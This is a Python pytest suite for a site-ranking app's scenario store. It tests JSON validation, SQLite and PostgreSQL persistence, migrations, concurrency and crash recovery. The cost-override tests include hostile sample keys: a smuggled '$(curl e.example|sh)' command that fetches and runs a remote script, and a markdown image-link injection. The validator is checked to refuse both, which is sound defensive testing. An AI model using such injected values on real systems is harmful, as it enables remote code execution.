"""Tests of windrose_sites.scenarios: JSON validation, durability, concurrency, crashes.

The store tests run on both repositories: SQLite (a file in tmp_path) and PostgreSQL (a
throwaway cluster started by the tests, see tests/pg_cluster.py; a fresh database per test).
Without PostgreSQL's binaries the PostgreSQL runs fail in CI (CI=true) and skip elsewhere.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from pg_cluster import PgCluster, pg_bindir

from windrose_sites import catalog, uploads
from windrose_sites import scenarios as sc
from windrose_sites.state import AppState, Filters
from windrose_sites.store import postgres as pg

ROOT = Path(__file__).resolve().parent.parent
UPLOAD = json.dumps(
    {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "properties": {"name": "Zelzate – القاهرة"},
                "geometry": {"type": "Point", "coordinates": [3.81, 51.2]},
            }
        ],
    },
    ensure_ascii=False,
)


def make(name: str = "Base case", **changes) -> sc.Scenario:
    state = AppState(
        group_weights={"logistics": 80.0, "jobs": 20.5, "port access": 0.0},
        criterion_weights={"sea_distance_nm": 50.0, "unemployment_pct": 12.25},
        method="topsis",
        filters=Filters(min_area_ha=5.0, max_port_km=250.0, countries=("BE", "US")),
        selected=("antwerp_romeynsweel", "user_zelzate"),
    )
    base = sc.Scenario(
        name=name,
        state=state,
        edits={"antwerp_romeynsweel": {"labour_cost_eur_h": 48.5, "unemployment_pct": None}},
        uploads_geojson=UPLOAD,
    )
    return replace(base, **changes)


def query(path: Path, sql: str) -> object:
    con = sqlite3.connect(path)
    try:
        row = con.execute(sql).fetchone()
        return None if row is None else row[0]
    finally:
        con.close()


class Sqlite:
    """The SQLite side of the store tests: a fresh file per ``new()``."""

    name = "sqlite"
    migrations = sc.MIGRATIONS

    def __init__(self, folder: Path) -> None:
        self.folder, self.count = folder, 0
        self.target = self.new()

    def new(self) -> str:
        self.count += 1
        return str(self.folder / f"s{self.count}.sqlite")

    def store(self, target: str | None = None, **kw) -> sc.ScenarioStore:
        return sc.ScenarioStore(target or self.target, **kw)

    def query(self, sql: str, target: str | None = None) -> object:
        return query(Path(target or self.target), sql)

    def build(self, version: int, rows: list[tuple]) -> None:
        """A database at schema ``version`` holding ``rows`` (the columns of that version)."""
        con = sqlite3.connect(self.target)
        with con:
            for step in self.migrations[:version]:
                step(con)
            con.execute(f"PRAGMA user_version = {version}")
            marks = ", ".join("?" * len(rows[0]))
            con.executemany(f"INSERT INTO scenarios VALUES ({marks})", rows)
        con.close()

    def set_version(self, version: int) -> None:
        self.query(f"PRAGMA user_version = {version}")

    def sound(self) -> None:
        """The file passes SQLite's own integrity check."""
        assert self.query("PRAGMA integrity_check") == "ok"


class Postgres:
    """The PostgreSQL side: a fresh database of the session's cluster per ``new()``."""

    name = "postgres"
    migrations = pg.MIGRATIONS

    def __init__(self, cluster: PgCluster) -> None:
        self.cluster = cluster
        self.target = self.new()

    def new(self) -> str:
        return self.cluster.new_database()

    def store(self, target: str | None = None, **kw) -> sc.ScenarioStore:
        return sc.ScenarioStore(url=target or self.target, **kw)

    def query(self, sql: str, target: str | None = None) -> object:
        import psycopg

        with psycopg.connect(target or self.target, autocommit=True) as con:
            cur = con.execute(sql)
            row = cur.fetchone() if cur.description else None
        return None if row is None else row[0]

    def build(self, version: int, rows: list[tuple]) -> None:
        import psycopg

        with psycopg.connect(self.target) as con, con.transaction():
            assert pg.schema_version(con) == 0
            for step in self.migrations[:version]:
                step(con)
            con.execute("UPDATE windrose_schema SET version = %s", (version,))
            marks = ", ".join(["%s"] * len(rows[0]))
            con.cursor().executemany(f"INSERT INTO scenarios VALUES ({marks})", rows)

    def set_version(self, version: int) -> None:
        self.store()
        self.query(f"UPDATE windrose_schema SET version = {version}")

    def sound(self) -> None:
        """No half-written row: every payload is whole JSON (checked by loading them all)."""
        assert self.query("SELECT count(*) FROM scenarios WHERE payload = ''") == 0


@pytest.fixture(scope="session")
def pg_cluster() -> Iterator[PgCluster]:
    """One throwaway cluster for the session; fails in CI if PostgreSQL is not installed."""
    bindir = pg_bindir()
    if bindir is None:
        reason = "no PostgreSQL binaries (initdb); run scripts/ensure-postgres or `make test`"
        if os.environ.get("CI") == "true":
            pytest.fail(f"{reason} (CI=true: PostgreSQL store tests must run)")
        pytest.skip(reason)
    cluster = PgCluster(bindir)
    try:
        yield cluster.start()
    finally:
        cluster.stop()


@pytest.fixture(params=["sqlite", "postgres"])
def db(request, tmp_path: Path):
    """The backend under test, with helpers to inspect and prepare its database."""
    if request.param == "sqlite":
        return Sqlite(tmp_path)
    return Postgres(request.getfixturevalue("pg_cluster"))


@pytest.fixture
def store(db) -> sc.ScenarioStore:
    return db.store()


def same(a: sc.Scenario, b: sc.Scenario) -> bool:
    return replace(a, saved_at=None) == replace(b, saved_at=None)


# --------------------------------------------------------------------------- JSON


def test_json_round_trip():
    scenario = make(saved_at=None)
    text = sc.scenario_to_json(scenario)
    assert sc.scenario_from_json(text) == scenario
    assert sc.scenario_from_json(text.encode(), name="Other").name == "Other"
    assert "القاهرة" in text  # kept readable, not \u-escaped


def test_nan_edit_is_written_as_null():
    scenario = make(edits={"a": {"x": float("nan")}})
    assert sc.scenario_from_json(sc.scenario_to_json(scenario)).edits == {"a": {"x": None}}


def _doc(**changes):
    doc = json.loads(sc.scenario_to_json(make()))
    for key, value in changes.items():
        if value is ...:
            del doc[key]
        else:
            doc[key] = value
    return json.dumps(doc)


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        pytest.param("weights: lots", "not valid JSON: Expecting value at line 1", id="not JSON"),
        pytest.param("", "not valid JSON", id="empty text"),
        pytest.param("[1, 2]", "expected a JSON object at the top level, got an array", id="list"),
        pytest.param('"text"', "expected a JSON object at the top level, got 'text'", id="string"),
        pytest.param("[" * 100_000, "not valid JSON", id="nested too deeply"),
        pytest.param(_doc(weights=...), "missing field 'weights'", id="missing weights"),
        pytest.param(
            _doc(weights={"groups": {"jobs": 1}}),
            "missing field 'weights.criteria'",
            id="missing criterion weights",
        ),
        pytest.param(
            _doc(weights={"groups": {"jobs": "high"}, "criteria": {}}),
            "weights.groups['jobs']: expected a number from 0 to 100, got 'high'",
            id="weight not a number",
        ),
        pytest.param(
            _doc(weights={"groups": {"jobs": True}, "criteria": {}}),
            "weights.groups['jobs']: expected a number from 0 to 100, got True",
            id="weight a boolean",
        ),
        pytest.param(
            _doc(weights={"groups": [50], "criteria": {}}),
            "weights.groups: expected an object, got an array",
            id="weights not an object",
        ),
        pytest.param(
            _doc(method="magic"),
            "method: expected one of wsm, wpm, topsis, promethee, got 'magic'",
            id="unknown method",
        ),
        pytest.param(_doc(method=...), "missing field 'method'", id="missing method"),
        pytest.param(
            _doc(weights={"groups": {"jobs": 1e308}, "criteria": {}}),
            "expected a number from 0 to 100, got 1e+308",
            id="huge weight",
        ),
        pytest.param(
            _doc(weights={"groups": {"jobs": -1}, "criteria": {}}),
            "expected a number from 0 to 100, got -1",
            id="negative weight",
        ),
        pytest.param(
            '{"version": 1, "name": "x", "method": "wsm", '
            '"weights": {"groups": {"jobs": 1e999}, "criteria": {}}}',
            "expected a number from 0 to 100, got inf",
            id="infinite weight",
        ),
        pytest.param(
            _doc(weights={"groups": {"jobs": 10**400}, "criteria": {}}),
            "got a huge integer",
            id="huge integer weight",
        ),
        pytest.param(
            _doc(edits={"a": {"x": 1e300}}),
            "edits['a']['x']: expected a number from -1e+15 to 1e+15, got 1e+300",
            id="huge edited value",
        ),
        pytest.param(
            _doc(edits={"a": {"x": "12"}}),
            "edits['a']['x']: expected a number",
            id="edited value as text",
        ),
        pytest.param(
            _doc(filters={"min_area_ha": -5}),
            "filters.min_area_ha: expected a number from 0 to 1e+06, got -5",
            id="negative area filter",
        ),
        pytest.param(
            _doc(filters={"max_port": 5}), "filters: unknown field 'max_port'", id="filter typo"
        ),
        pytest.param(
            _doc(selected="a,b"), "selected: expected an array of text, got 'a,b'", id="selected"
        ),
        pytest.param(_doc(weigths={}), "unknown field 'weigths'", id="unknown field"),
        pytest.param(_doc(version=4), "written by a newer app (version 4)", id="newer version"),
        pytest.param(_doc(version="1"), "version: expected an integer", id="version as text"),
        pytest.param(_doc(format="other"), "format: expected 'windrose-scenario'", id="format"),
        pytest.param(_doc(name=""), "scenario name: must not be empty", id="empty name"),
        pytest.param(_doc(name="n" * 101), "at most 100 characters, got 101", id="long name"),
        pytest.param(_doc(name="a\nb"), "must not contain control characters", id="name ctrl"),
        pytest.param(
            _doc(uploads_geojson='{"type": "Feature"}'),
            "uploads_geojson: expected a GeoJSON FeatureCollection",
            id="uploads not a FeatureCollection",
        ),
        pytest.param(
            _doc(uploads_geojson="{"), "uploads_geojson: not valid GeoJSON", id="uploads not JSON"
        ),
        pytest.param(_doc(saved_at="yesterday"), "saved_at: expected an ISO 8601", id="saved_at"),
    ],
)
def test_malformed_json_is_rejected_clearly(text, fragment, store):
    with pytest.raises(sc.ScenarioError) as err:
        sc.scenario_from_json(text)
    assert fragment in str(err.value)
    with pytest.raises(sc.ScenarioError):
        store.import_json(text)
    assert store.list() == []


def test_import_json_accepts_bytes_and_rejects_non_utf8(store):
    saved = store.import_json(sc.scenario_to_json(make()).encode(), name="From file")
    assert same(store.load("From file"), saved)
    with pytest.raises(sc.ScenarioError, match="not UTF-8"):
        store.import_json(b"\xff\xfe{}")


@pytest.mark.parametrize("name", ["Antwerp first ✓", "تجربة", "東京 – 2026", "<b>x</b>", "=1+1"])
def test_unicode_names(store, name):
    store.save(make(name))
    assert store.load(name).name == name
    assert [n for n, _ in store.list()] == [name]


def test_fit_state_to_todays_catalog():
    default = AppState({"logistics": 50.0, "market": 50.0}, {"sea_distance_nm": 1.0, "new": 1.0})
    fitted, warnings = sc.fit_state(make().state, default, site_ids=["antwerp_romeynsweel"])
    assert fitted.group_weights == {"logistics": 80.0, "market": 50.0}
    assert fitted.criterion_weights == {"sea_distance_nm": 50.0, "new": 1.0}
    assert fitted.selected == ("antwerp_romeynsweel",)
    assert fitted.method == "topsis"
    assert len(warnings) == 5
    assert "Ignored unknown site(s) in the selection: user_zelzate." in warnings


# --------------------------------------------------------------------------- store


def test_crud_and_clear_errors(store):
    saved = store.save(make("A"))
    assert saved.saved_at is not None
    assert saved.saved_at.tzinfo is not None
    assert same(store.load("A"), make("A"))
    with pytest.raises(sc.ScenarioExistsError, match="'A' already exists"):
        store.save(make("A"))
    store.save(make("A", state=replace(make().state, method="wpm")), overwrite=True)
    assert store.load("A").state.method == "wpm"
    store.save(make("B"))
    assert [n for n, _ in store.list()] == ["B", "A"]  # most recent first
    with pytest.raises(sc.ScenarioExistsError, match="'B' already exists"):
        store.rename("A", "B")
    store.rename("A", "C")
    assert store.load("C").name == "C"
    assert json.loads(store.export_json("C"))["name"] == "C"
    with pytest.raises(sc.ScenarioNotFoundError, match="no scenario named 'A'"):
        store.load("A")
    with pytest.raises(sc.ScenarioNotFoundError):
        store.rename("A", "D")
    store.delete("C")
    with pytest.raises(sc.ScenarioNotFoundError):
        store.delete("C")
    with pytest.raises(sc.ScenarioError, match="must not be empty"):
        store.save(make("   "))
    assert [n for n, _ in store.list()] == ["B"]


def test_export_import_round_trip(store, db):
    store.save(make("Original"))
    text = store.export_json("Original")
    other = db.store(db.new())
    imported = other.import_json(text)
    assert same(imported, store.load("Original"))
    renamed = store.import_json(text, name="Copy")
    assert same(replace(renamed, name="Original"), store.load("Original"))
    with pytest.raises(sc.ScenarioExistsError):
        store.import_json(text)
    store.import_json(text, overwrite=True)


def test_durability_across_store_objects(db):
    first = db.store()
    first.save(make("Kept"))
    del first
    again = db.store()
    assert same(again.load("Kept"), make("Kept"))
    if db.name == "sqlite":
        assert db.query("PRAGMA journal_mode") == "wal"
        assert db.query("PRAGMA user_version") == sc.SCHEMA_VERSION
    else:
        assert db.query("SELECT version FROM windrose_schema") == pg.SCHEMA_VERSION


def test_default_path(monkeypatch, tmp_path):
    monkeypatch.delenv("WINDROSE_DATABASE_URL", raising=False)
    monkeypatch.setenv("WINDROSE_SCENARIOS_DB", str(tmp_path / "env.sqlite"))
    assert sc.default_db_path() == tmp_path / "env.sqlite"
    assert sc.ScenarioStore().path == tmp_path / "env.sqlite"
    monkeypatch.delenv("WINDROSE_SCENARIOS_DB")
    assert sc.default_db_path() == ROOT / "data" / "scenarios.sqlite"  # not opened here


def test_database_url_selects_postgres(monkeypatch, pg_cluster, tmp_path):
    url = pg_cluster.new_database()
    monkeypatch.setenv("WINDROSE_DATABASE_URL", url)
    monkeypatch.setenv("WINDROSE_SCENARIOS_DB", str(tmp_path / "unused.sqlite"))
    store = sc.ScenarioStore()
    assert store.path is None
    assert isinstance(store.repo, pg.PostgresRepository)
    store.save(make("On PG"))
    assert [n for n, _ in sc.ScenarioStore(url=url).list()] == ["On PG"]
    assert not (tmp_path / "unused.sqlite").exists()
    assert isinstance(sc.ScenarioStore(tmp_path / "given.sqlite").repo.path, Path)  # path wins


def test_v1_database_is_migrated(db):
    db.build(
        1, [("Old", sc.scenario_to_json(make("Old")), datetime(2025, 1, 2, 3, 4, 5, tzinfo=UTC))]
    )
    store = db.store()
    assert same(store.load("Old"), make("Old"))
    (old,) = store.entries()
    assert old.saved_at == datetime(2025, 1, 2, 3, 4, 5, tzinfo=UTC)
    created = db.query("SELECT created_at FROM scenarios")
    assert str(created).startswith("2025-01-02")
    assert "03:04:05" in str(created)
    store.save(make("New"))
    assert [n for n, _ in store.list()] == ["New", "Old"]
    db.store()  # opening a current database again changes nothing
    assert [n for n, _ in store.list()] == ["New", "Old"]


def test_newer_or_foreign_database_is_refused(db, tmp_path):
    db.set_version(99)
    with pytest.raises(sc.ScenarioError, match="schema version 99 is newer"):
        db.store()
    junk = tmp_path / "junk.sqlite"
    junk.write_bytes(b"this is not a database" * 100)
    with pytest.raises(sc.ScenarioError, match="scenario database error"):
        sc.ScenarioStore(junk)


def test_unreachable_postgres_is_a_clear_error_without_address():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]  # nothing listens there once the socket is closed
    url = f"postgresql://someone:s3cret@127.0.0.1:{port}/nowhere?connect_timeout=2"
    with pytest.raises(sc.ScenarioError, match="cannot reach the scenario database") as err:
        sc.ScenarioStore(url=url)
    assert "s3cret" not in str(err.value)
    assert str(port) not in str(err.value)


def test_two_threads_save_50_each(store):
    barrier = threading.Barrier(2)
    errors: list[BaseException] = []

    def worker(prefix: str) -> None:
        try:
            barrier.wait()
            for i in range(50):
                store.save(make(f"{prefix} {i}"))
        except BaseException as exc:  # reported below, in the test thread
            errors.append(exc)

    threads = [threading.Thread(target=worker, args=(p,)) for p in ("left", "right")]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    assert len(store.list()) == 100


def test_two_threads_overwrite_one_name(store):
    """Saves of one name with overwrite from two threads: no error, one row, the same id."""
    first = store.save(make("Shared"))
    barrier = threading.Barrier(2)
    errors: list[BaseException] = []

    def worker(method: str) -> None:
        try:
            barrier.wait()
            for _ in range(20):
                saved = store.save(
                    make("Shared", state=replace(make().state, method=method)), overwrite=True
                )
                assert saved.id == first.id
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=worker, args=(m,)) for m in ("wsm", "wpm")]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    assert [e.id for e in store.entries()] == [first.id]
    assert store.load("Shared").state.method in ("wsm", "wpm")


SAVER = """
import sys, time
from pathlib import Path
from dataclasses import replace
sys.path.insert(0, {root!r})
from windrose_sites import scenarios as sc
from windrose_sites.state import AppState
target, prefix, count, go = sys.argv[1], sys.argv[2], int(sys.argv[3]), Path(sys.argv[4])
pg = target.startswith("postgresql:")
store = sc.ScenarioStore(url=target) if pg else sc.ScenarioStore(target)
big = Path(sys.argv[5]).read_text(encoding="utf-8")
state = AppState({{"jobs": 50.0}}, {{"unemployment_pct": 1.0}})
while not go.exists():
    time.sleep(0.005)
i = 0
while count < 0 or i < count:
    edits = {{"site": {{"x": float(i)}}}}
    name = f"{{prefix}} {{i}}" if count >= 0 else f"{{prefix}} {{i % 30}}"
    store.save(sc.Scenario(name, state, edits, big), overwrite=count < 0)
    i += 1
    if i == 10:
        print("saving", flush=True)
"""


@contextlib.contextmanager
def _killed_on_exit(proc: subprocess.Popen) -> Iterator[subprocess.Popen]:
    """``proc``, SIGKILLed and reaped when the block ends, even if it fails half-way.

    ``Popen``'s own ``with`` waits for the process without a limit: a saver that saves forever
    then hangs the test run (it did once in CI, after a failed kill).
    """
    try:
        yield proc
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.communicate(timeout=30)


def _saver(target: str, folder: Path, prefix: str, count: int, go: Path, upload: str):
    """A process saving ``count`` scenarios (forever if negative) once ``go`` exists."""
    upload_file = folder / f"{prefix}.geojson"
    upload_file.write_text(upload, encoding="utf-8")
    if target.startswith("postgresql:"):
        target += "?application_name=windrose-saver"
    args = [target, prefix, str(count), str(go), str(upload_file)]
    return subprocess.Popen(
        [sys.executable, "-c", SAVER.format(root=str(ROOT)), *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def test_two_processes_save_50_each(db, tmp_path):
    go = tmp_path / "go"
    db.store()
    with contextlib.ExitStack() as running:
        procs = [
            running.enter_context(_killed_on_exit(_saver(db.target, tmp_path, p, 50, go, UPLOAD)))
            for p in ("left", "right")
        ]
        time.sleep(0.5)  # both import and wait on the go file
        go.touch()
        for p in procs:
            _, err = p.communicate(timeout=120)
            assert p.returncode == 0, err
    names = {n for n, _ in db.store().list()}
    assert names == {f"{p} {i}" for p in ("left", "right") for i in range(50)}


def _server_pid(db) -> int | None:
    """The PostgreSQL backend process serving the saver right now, if any."""
    sql = "SELECT pid FROM pg_stat_activity WHERE application_name = 'windrose-saver' LIMIT 1"
    return db.query(sql)


def _kill_serving_backend(db, timeout_s: float = 30.0) -> int:
    """SIGKILL a backend serving the saver; returns its pid.

    The saver opens a connection per save, so the backend listed a moment ago may have ended
    already: then take the next one. Only a child of this cluster's postmaster is killed (a
    pid of an ended backend could in principle be reused by another process).
    """
    postmaster = db.cluster.postmaster_pid()
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        pid = _server_pid(db)
        if pid is None or _parent_pid(pid) != postmaster:
            continue
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:  # it ended between the query and the kill
            continue
        return pid
    pytest.fail(f"no backend serving the saver could be killed within {timeout_s} s")


def _parent_pid(pid: int) -> int | None:
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return None
    return int(next(line.split()[1] for line in status.splitlines() if line.startswith("PPid:")))


def test_sigkill_mid_burst_leaves_a_sound_database(db, tmp_path):
    """SIGKILL the writer mid-transaction; on PostgreSQL, in the second round, SIGKILL the
    server process serving it instead (the server then restarts and recovers from its WAL).
    """
    go = tmp_path / "go"
    go.touch()
    # ~200 KB payloads make each transaction long enough for the kill to land inside one
    big = json.dumps(
        {
            "type": "FeatureCollection",
            "features": [
                {"type": "Feature", "properties": {"name": f"site {i} ✓"}, "geometry": None}
                for i in range(3000)
            ],
        }
    )
    db.store()
    for round_ in range(2):
        with _killed_on_exit(_saver(db.target, tmp_path, f"r{round_}", -1, go, big)) as proc:
            assert proc.stdout.readline().strip() == "saving", proc.stderr.read()
            time.sleep(0.05 + 0.1 * round_)
            if db.name == "postgres" and round_ == 1:
                _kill_serving_backend(db)
                proc.wait(timeout=60)  # its connection is gone: it stops with an error
                assert proc.returncode != 0
                db.cluster.wait_ready()
                assert "terminated by signal 9" in db.cluster.log.read_text()
            else:
                os.kill(proc.pid, signal.SIGKILL)
                proc.wait(timeout=10)
                assert proc.returncode == -signal.SIGKILL
        db.sound()
        store = db.store()
        listed = store.list()
        assert len(listed) >= 10
        for name, _ in listed:
            loaded = store.load(name)
            assert loaded.uploads_geojson == big
            assert same(sc.scenario_from_json(store.export_json(name)), loaded)


# --------------------------------------------------------------------------- v3: ids, owner, trash


def test_ids_are_stable_across_renames_and_never_reused(store):
    a = store.save(make("A", owner="Ana"))
    b = store.save(make("B"))
    store.rename_id(a.id, "A2")
    assert store.load_id(a.id).name == "A2"
    assert store.entry(a.id).owner == "Ana"
    store.delete_id(b.id, by="Bo")
    c = store.save(make("C"))
    assert c.id not in (a.id, b.id)  # AUTOINCREMENT: a deleted id is never given again
    with pytest.raises(sc.ScenarioNotFoundError):
        store.load_id(b.id)
    with pytest.raises(sc.ScenarioNotFoundError):
        store.rename_id(b.id, "B2")


def test_trash_restore_and_purge(store):
    a = store.save(make("A"))
    store.delete("A", by="Bo")
    assert store.list() == []
    (gone,) = store.entries(trash=True)
    assert (gone.id, gone.name, gone.deleted_by) == (a.id, "A", "Bo")
    store.save(make("A"))  # a trashed name can be used again
    restored = store.restore(a.id)
    assert restored.name == "A (restored)"
    assert restored.deleted_at is None
    assert sorted(n for n, _ in store.list()) == ["A", "A (restored)"]
    with pytest.raises(sc.ScenarioNotFoundError, match="not in the trash"):
        store.restore(a.id)
    store.delete_id(a.id)
    later = datetime.now(UTC) + timedelta(days=sc.TRASH_DAYS - 1)
    assert store.purge_trash(now=later) == 0
    assert store.purge_trash(now=later + timedelta(days=2)) == 1
    assert store.entry(a.id) is None
    assert store.entries(trash=True) == []


def test_v2_database_is_migrated_to_v3(db):
    rows = []
    for i, name in enumerate(("Old", "Older")):
        when = datetime(2025, 1, i + 1, tzinfo=UTC)
        rows.append((name, sc.scenario_to_json(make(name)), when, when))
    db.build(2, rows)
    store = db.store()
    version = (
        "PRAGMA user_version" if db.name == "sqlite" else "SELECT version FROM windrose_schema"
    )
    assert db.query(version) == 3
    entries = store.entries()
    assert [e.name for e in entries] == ["Older", "Old"]
    assert [e.owner for e in entries] == ["", ""]  # not known for old rows
    assert sorted(e.id for e in entries) == [1, 2]
    assert same(store.load("Old"), make("Old"))
    assert db.query("SELECT owner_id FROM scenarios WHERE name = 'Old'") is None
    assert store.save(make("New")).id == 3


def test_version_1_json_without_directions_still_loads():
    doc = json.loads(sc.scenario_to_json(make()))
    doc["version"] = 1
    for key in ("directions", "owner"):
        del doc[key]
    del doc["filters"]["keep_remote"]
    scenario = sc.scenario_from_json(json.dumps(doc))
    assert scenario.state.directions == {}
    assert scenario.owner is None
    assert scenario.state.filters.keep_remote is False


def test_directions_round_trip_and_are_fitted():
    state = replace(make().state, directions={"unemployment_pct": "cost", "gone": "benefit"})
    scenario = make(state=state, owner="Ana")
    back = sc.scenario_from_json(sc.scenario_to_json(scenario))
    assert back.state.directions == state.directions
    assert back.owner == "Ana"
    doc = json.loads(sc.scenario_to_json(scenario))
    doc["directions"] = {"x": "up"}
    with pytest.raises(sc.ScenarioError, match=r"directions\['x'\]: expected 'benefit' or 'cost'"):
        sc.scenario_from_json(json.dumps(doc))
    default = AppState({"jobs": 50.0}, {"unemployment_pct": 1.0})
    fitted, warnings = sc.fit_state(back.state, default)
    assert fitted.directions == {"unemployment_pct": "cost"}
    assert any("unknown criteria: gone" in w for w in warnings)


def test_save_rate_limit():
    assert sc.save_wait_s([], 0.0) == 0.0
    burst = [float(i) for i in range(sc.MAX_SAVES)]
    assert sc.save_wait_s(burst, now=10.0) == pytest.approx(sc.SAVE_WINDOW_S - 10.0)
    assert sc.save_wait_s(burst, now=sc.SAVE_WINDOW_S + 0.5) == 0.0


@pytest.mark.parametrize("owner", ["", "  ", "a\tb", "x" * 61, 5])
def test_bad_owner_names(owner):
    with pytest.raises(sc.ScenarioError, match="your name"):
        sc.check_owner(owner)


# --------------------------------------------------------------------------- catalog checks

RULES = sc.Rules.of(catalog.load_sites(), catalog.load_criteria())


def user_upload(*rows: str) -> str:
    shipped = catalog.load_sites()
    data = "\n".join(["name,lat,lon", *rows]).encode()
    result = uploads.parse_sites(
        data, "mine.csv", existing_ids=shipped["site_id"], existing_names=shipped["name"]
    )
    return result.sites.to_json(drop_id=True)


def test_check_passes_a_scenario_made_in_the_app(db):
    good = make(uploads_geojson=user_upload("Ghent,51.05,3.72"), edits={"user_ghent": {}})
    checked = sc.check_scenario(good, RULES)
    assert list(checked.sites["site_id"]) == ["user_ghent"]
    store = db.store(rules=RULES)
    saved = store.save(good)
    assert list(store.checked(saved.id).sites["site_id"]) == ["user_ghent"]


@pytest.mark.parametrize(
    ("changes", "fragment"),
    [
        ({"uploads_geojson": UPLOAD}, "added sites: column 'site_id': missing column"),
        ({"edits": {"nowhere": {"unemployment_pct": 1.0}}}, "no site with id 'nowhere'"),
        ({"edits": {"onnaing": {"magic": 1.0}}}, "unknown criterion 'magic'"),
        ({"edits": {"onnaing": {"road_to_port_km": -5.0}}}, "-5 is not a finite non-negative"),
    ],
)
def test_check_refuses_what_would_break_a_page(changes, fragment, db):
    bad = make(**{"edits": {}, "uploads_geojson": None, **changes})
    with pytest.raises(sc.ScenarioError, match=re.escape(fragment)):
        sc.check_scenario(bad, RULES)
    store = db.store(rules=RULES)
    with pytest.raises(sc.ScenarioError):
        store.save(bad)
    with pytest.raises(sc.ScenarioError):
        store.import_json(sc.scenario_to_json(bad))
    assert store.entries() == []  # refused before it was stored


def test_store_messages_carry_no_path(tmp_path):
    junk = tmp_path / "secret-dir" / "junk.sqlite"
    junk.parent.mkdir()
    junk.write_bytes(b"this is not a database" * 100)
    with pytest.raises(sc.ScenarioError) as err:
        sc.ScenarioStore(junk)
    assert "secret-dir" not in str(err.value)


# --------------------------------------------------------------------------- cost overrides


def test_cost_overrides_round_trip_through_json_and_store(store):
    overrides = {
        "tariff": "s232_lifted",
        "feu_per_truck_kit": 2,
        "eu_parts_duty_pct": "eu_built_duty_pct@EU",
    }
    scenario = make(cost_overrides=overrides)
    back = sc.scenario_from_json(sc.scenario_to_json(scenario))
    assert back.cost_overrides == {**overrides, "feu_per_truck_kit": 2.0}
    store.save(scenario)
    assert store.load(scenario.name).cost_overrides == back.cost_overrides
    expanded = sc.expand_cost_overrides(back.cost_overrides)
    assert expanded["us_section232_pct"] == 0.0
    assert "tariff" not in expanded


def test_version_2_json_without_cost_overrides_still_loads():
    doc = json.loads(sc.scenario_to_json(make()))
    doc["version"] = 2
    del doc["cost_overrides"]
    assert sc.scenario_from_json(json.dumps(doc)).cost_overrides == {}


@pytest.mark.parametrize(
    ("overrides", "fragment"),
    [
        ({"tariff": "free_trade"}, "cost_overrides['tariff']: expected one of today, s232_lifted"),
        ({"no_such_param": 1.0}, "cost_overrides['no_such_param']: unknown cost parameter"),
        ({"feu_per_truck_kit": -1}, "expected a number from 0 to"),
        ({"feu_per_truck_kit": True}, "expected a number from 0 to"),
        ({"feu_per_truck_kit": "lots"}, "expected a number or the id of a cost parameter row"),
        ({"feu_per_truck_kit": [1]}, "expected a number from 0"),
        # the Cost page shows every key in its command line: no markup, quotes or line breaks
        ({"feu_per_truck_kit@x\n\n# Pwned ![t](https://e.example/p.png)": 2}, "after '@' comes"),
        ({"feu_per_truck_kit@x;$(curl e.example|sh)": 2}, "after '@' comes 'all', a market"),
        ([1, 2], "cost_overrides: expected an object"),
    ],
)
def test_bad_cost_overrides_are_refused(overrides, fragment):
    doc = json.loads(sc.scenario_to_json(make()))
    doc["cost_overrides"] = overrides
    with pytest.raises(sc.ScenarioError, match=re.escape(fragment)):
        sc.scenario_from_json(json.dumps(doc))


def test_infinite_cost_override_is_refused():
    text = sc.scenario_to_json(make()).replace(
        '"cost_overrides": {}', '"cost_overrides": {"feu_per_truck_kit": 1e999}'
    )
    with pytest.raises(sc.ScenarioError, match="got inf"):
        sc.scenario_from_json(text)
